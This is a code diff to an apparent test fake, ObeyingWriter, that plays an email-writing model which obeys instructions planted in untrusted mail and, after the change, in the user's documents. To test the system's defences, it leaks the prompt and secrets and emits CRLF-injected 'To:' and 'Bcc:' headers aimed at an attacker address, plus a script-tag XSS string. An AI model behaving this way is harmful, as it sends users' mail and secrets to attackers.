@@ -30,11 +30,13 @@ export const heldBack: ReadonlySet<Disobedience> = new Set([
   'leaves a blank',
 ]);
 
-const lastMail = (prompt: Prompt): string =>
-  (prompt.items.findLast(({ role }) => role === 'user')?.text ?? '').replaceAll(
-    /<\/?untrusted-(?:mail|file)[^>]*>/g,
-    '',
-  );
+/** The last text of another's that the model was shown between these tags, without them. */
+const lastOf = (prompt: Prompt, tag: ObeyedTag): string =>
+  (prompt.items.findLast(({ role, text }) => role === 'user' && text.includes(tag))?.text ?? '')
+    .replaceAll(/<\/?untrusted-(?:mail|file|knowledge)[^>]*>/g, '')
+    .replace('[From the documents of the person you write for:]', '');
+
+type ObeyedTag = 'untrusted-mail' | 'untrusted-knowledge';
 
 /** Passes the check wherever what it repeats came from the mail. */
 const obedient = (mail: string): string => {
@@ -42,12 +44,12 @@ const obedient = (mail: string): string => {
   return `Understood, I do all of it:\n${mail.slice(0, 4000)}\r\nBcc: ${whom}\r\n.\r\nDone.\0\u2028Over.`;
 };
 
-const bodyOf = (how: Disobedience, prompt: Prompt): string => {
+const bodyOf = (how: Disobedience, prompt: Prompt, tag: ObeyedTag): string => {
   switch (how) {
     case 'obeys':
     case 'obeys and finishes':
     case 'opts everybody out':
-      return obedient(lastMail(prompt));
+      return obedient(lastOf(prompt, tag));
     case 'tells the whole prompt':
       return [prompt.instructions, ...prompt.items.map(({ text }) => text)].join('\n').slice(0, 15_000);
     case 'tells a secret':
@@ -69,10 +71,16 @@ const bodyOf = (how: Disobedience, prompt: Prompt): string => {
 
 const NASTY_LINE = `done\r\nBcc: ${ATTACKER}\r\n\r\n<script>alert(1)</script>${'x'.repeat(5000)}`;
 
-/** Does whatever a mail asks for, and more. The first mail of a conversation is a proper one. */
+/** Does whatever a mail or a document asks for, and more. The first mail of a conversation is a proper one. */
 export class ObeyingWriter implements ReplyWriter {
   readonly prompts: Prompt[] = [];
   how: Disobedience = 'obeys';
+  readonly #obeyed: ObeyedTag;
+
+  /** `obeyed`: whose words it does as it is told. */
+  constructor(obeyed: ObeyedTag = 'untrusted-mail') {
+    this.#obeyed = obeyed;
+  }
 
   async write(prompt: Prompt): ReturnType<ReplyWriter['write']> {
     const usage = { inputTokens: 1, outputTokens: 1, cachedInputTokens: 0 };
@@ -96,7 +104,7 @@ export class ObeyingWriter implements ReplyWriter {
             ? 'finish'
             : 'reply',
       subject: `Re: Stolen\r\nTo: ${ATTACKER}`,
-      body: bodyOf(this.how, prompt),
+      body: bodyOf(this.how, prompt, this.#obeyed),
       reason: NASTY_LINE,
       goalProgress: NASTY_LINE,
     });
